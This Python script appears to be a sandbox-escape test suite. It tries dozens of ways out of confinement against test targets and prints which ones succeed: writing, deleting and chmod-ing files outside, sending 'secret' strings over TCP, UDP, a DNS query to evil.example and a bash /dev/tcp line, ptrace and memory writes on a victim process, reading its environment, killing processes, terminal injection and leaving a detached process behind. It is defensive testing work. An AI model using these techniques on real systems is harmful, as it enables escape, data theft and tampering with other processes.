"""A hostile program: it tries each way out of the walls, and prints which of them it believes to have worked, as JSON.

Run with the standard library alone: `python3 attacks.py JSON`, the JSON naming what lies outside: a folder `outside`
with files, `tcp` and `udp` ports, a unix socket `unix`, an `abstract` name, a process `victim`, a `setuid` program.
"""

import ctypes
import fcntl
import json
import os
import platform
import shutil
import signal
import socket
import subprocess
import sys

ATTACKS = {}
LIBC = ctypes.CDLL(None, use_errno=True)
NUMBERS = {  # x86_64, aarch64
    "add_key": (248, 217),
    "io_uring_setup": (425, 425),
    "pidfd_open": (434, 434),
    "pidfd_getfd": (438, 438),
    "pidfd_send_signal": (424, 424),
    "process_vm_writev": (311, 271),
    "ptrace": (101, 117),
    "fchmodat2": (452, 452),
    "setns": (308, 268),
}


def attack(function):
    """Enter a function into ATTACKS; it raises OSError when it is refused."""
    ATTACKS[function.__name__] = function
    return function


def system_call(name, *args):
    """Make a system call. Raise OSError when it fails."""
    number = NUMBERS[name][platform.machine() == "aarch64"]
    result = LIBC.syscall(ctypes.c_long(number), *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def write(path, text="hacked"):
    """Write a text into a file, as it is."""
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)


@attack
def overwrite(at):
    write(f"{at['outside']}/overwrite")


@attack
def append(at):
    with open(f"{at['outside']}/append", "a", encoding="utf-8") as file:
        file.write("hacked")


@attack
def create(at):
    write(f"{at['outside']}/created")


@attack
def truncate(at):
    os.truncate(f"{at['outside']}/truncate", 0)


@attack
def open_truncating(at):
    os.close(os.open(f"{at['outside']}/open_truncating", os.O_RDONLY | os.O_TRUNC))


@attack
def unlink(at):
    os.unlink(f"{at['outside']}/unlink")


@attack
def rename_within(at):
    os.rename(f"{at['outside']}/rename_within", f"{at['outside']}/renamed")


@attack
def rename_out(at):
    os.rename(f"{at['outside']}/rename_out", "taken")


@attack
def rename_in(at):
    write("brought")
    os.rename("brought", f"{at['outside']}/brought")


@attack
def link_in(at):
    write("to-be-linked")
    os.link("to-be-linked", f"{at['outside']}/linked")


@attack
def write_through_a_hard_link(at):
    os.link(f"{at['outside']}/write_through_a_hard_link", "linked")
    write("linked")


@attack
def write_through_a_symlink(at):
    os.symlink(f"{at['outside']}/write_through_a_symlink", "link")
    write("link")


@attack
def write_through_proc(at):
    write(f"/proc/self/root{at['outside']}/write_through_proc")


@attack
def write_through_a_read_only_descriptor(at):
    fd = os.open(f"{at['outside']}/write_through_a_read_only_descriptor", os.O_RDONLY)
    write(f"/proc/self/fd/{fd}")


@attack
def make_folder(at):
    os.mkdir(f"{at['outside']}/folder")


@attack
def make_fifo(at):
    os.mkfifo(f"{at['outside']}/fifo")


@attack
def remove_folder(at):
    os.rmdir(f"{at['outside']}/remove_folder")


@attack
def change_mode(at):
    os.chmod(f"{at['outside']}/change_mode", 0o777)


@attack
def change_mode_of_a_descriptor(at):
    fd = os.open(f"{at['outside']}/change_mode_of_a_descriptor", os.O_RDONLY)
    os.fchmod(fd, 0o777)


@attack
def change_mode_anew(at):
    system_call("fchmodat2", -100, f"{at['outside']}/change_mode_anew".encode(), 0o777, 0)


@attack
def change_times(at):
    os.utime(f"{at['outside']}/change_times", (1, 1))


@attack
def change_owner(at):
    os.chown(f"{at['outside']}/change_owner", os.getuid(), os.getgid() if os.getuid() else 65534)


@attack
def change_attributes(at):
    os.setxattr(f"{at['outside']}/change_attributes", "user.hacked", b"1")


@attack
def change_flags(at):
    fd = os.open(f"{at['outside']}/change_flags", os.O_RDONLY)
    fcntl.ioctl(fd, 0x40086602, b"\x80\0\0\0\0\0\0\0")  # FS_IOC_SETFLAGS, no access times
    os.close(fd)


@attack
def mount_over(at):
    if LIBC.mount(b"none", f"{at['outside']}".encode(), b"tmpfs", 0, None):
        raise OSError(ctypes.get_errno(), "mount")


@attack
def new_namespace(at):
    if LIBC.unshare(0x10000000 | 0x20000):
        raise OSError(ctypes.get_errno(), "unshare")


@attack
def anothers_namespace(at):
    fd = os.open(f"/proc/{at['victim']}/ns/net", os.O_RDONLY)
    system_call("setns", fd, 0)


@attack
def tcp(at):
    with socket.create_connection(("127.0.0.1", at["tcp"]), timeout=5) as peer:
        peer.sendall(b"secret by tcp")


@attack
def tcp_with_data(at):
    with socket.socket() as peer:
        peer.sendto(b"secret by tcp fast open", 0x20000000, ("127.0.0.1", at["tcp"]))  # MSG_FASTOPEN


@attack
def udp(at):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.sendto(b"secret by udp", ("127.0.0.1", at["udp"]))


@attack
def udp_by_sendmsg(at):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.sendmsg([b"secret by sendmsg"], [], 0, ("127.0.0.1", at["udp"]))


@attack
def dns(at):
    question = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\7example\0\0\1\0\1"
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as peer:
        peer.sendto(question, ("::ffff:127.0.0.1", at["udp"]))


@attack
def by_bash(at):
    command = f"exec 3<>/dev/tcp/127.0.0.1/{at['tcp']} && echo secret by bash >&3"
    if subprocess.run(["bash", "-c", command], stderr=subprocess.DEVNULL, check=False).returncode:
        raise OSError(1, "bash")


@attack
def raw_packets(at):
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()


@attack
def unix_stream(at):
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect(at["unix"])
        peer.sendall(b"secret by a unix socket")


@attack
def unix_datagram(at):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as peer:
        peer.sendto(b"secret by a datagram", at["unix"] + ".dgram")


@attack
def unix_datagram_of_a_pair(at):
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(b"secret by a pair", at["unix"] + ".dgram")


@attack
def abstract(at):
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect("\0" + at["abstract"])
        peer.sendall(b"secret by an abstract socket")


@attack
def io_uring(at):
    system_call("io_uring_setup", 4, ctypes.create_string_buffer(120))


@attack
def kernel_keys(at):
    system_call("add_key", b"user", b"looop-test", b"x", ctypes.c_size_t(1), -1)


@attack
def steal_a_descriptor(at):
    fd = system_call("pidfd_open", at["victim"], 0)
    system_call("pidfd_getfd", fd, 1, 0)


@attack
def trace(at):
    system_call("ptrace", 16, at["victim"], None, None)  # PTRACE_ATTACH
    os.waitpid(at["victim"], 0x40000000)  # __WALL: it has stopped
    system_call("ptrace", 17, at["victim"], None, None)


@attack
def write_memory(at):
    target = ctypes.create_string_buffer(16)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(target), 0)
    system_call("process_vm_writev", at["victim"], vector, 1, vector, 1, 0)


@attack
def open_memory(at):
    os.close(os.open(f"/proc/{at['victim']}/mem", os.O_RDWR))


@attack
def read_environment(at):
    with open(f"/proc/{at['victim']}/environ", "rb") as file:
        if b"SECRET_OF_THE_VICTIM" not in file.read():
            raise OSError(1, "another process")


@attack
def change_priority(at):
    write(f"/proc/{at['victim']}/oom_score_adj", "900")


@attack
def setuid(at):
    out = subprocess.run([at["setuid"], "-u"], stdout=subprocess.PIPE, check=False).stdout.strip()
    if out != b"65534":
        raise OSError(1, f"it runs as {out!r}")


@attack
def become_root(at):
    if os.getuid() == 0:
        os.setgid(65534)
        os.setgid(0)
    os.setuid(0)


@attack
def terminate(at):
    os.kill(at["victim"], signal.SIGTERM)


@attack
def terminate_all(at):
    if not at["alone"]:
        raise OSError(1, "this would end the person's processes")
    os.kill(-1, signal.SIGTERM)


@attack
def terminate_its_group(at):
    os.killpg(at["victim"], signal.SIGTERM)


@attack
def terminate_by_descriptor(at):
    fd = system_call("pidfd_open", at["victim"], 0)
    system_call("pidfd_send_signal", fd, int(signal.SIGTERM), None, 0)


@attack
def type_into_a_terminal(at):
    for fd in (0, 1, 2):
        fcntl.ioctl(fd, 0x5412, b"x")  # TIOCSTI


@attack
def host_name(at):
    if LIBC.sethostname(os.uname().nodename.encode(), len(os.uname().nodename)):
        raise OSError(ctypes.get_errno(), "sethostname")


def live_on():
    """Leave a process behind that has left group and session, twice forked."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execvp("sleep", ["sleep", "300"])
        os._exit(0)
    os.wait()


def main():
    """Try all of them, each in a process of its own, so that none spoils the next."""
    at = json.loads(sys.argv[1])
    told = {}
    for name, function in ATTACKS.items():
        if name in at.get("leave", ()):
            continue
        reader, writer = os.pipe()
        if os.fork() == 0:
            try:
                os.mkdir(name)
                os.chdir(name)
                function(at)
                os.write(writer, b"worked")
            except BaseException as error:
                os.write(writer, f"{type(error).__name__}: {error}".encode())
            os._exit(0)
        os.close(writer)
        told[name] = os.read(reader, 4096).decode()
        os.close(reader)
        os.wait()
        shutil.rmtree(name, ignore_errors=True)
    live_on()
    print(json.dumps(told))


if __name__ == "__main__":
    main()
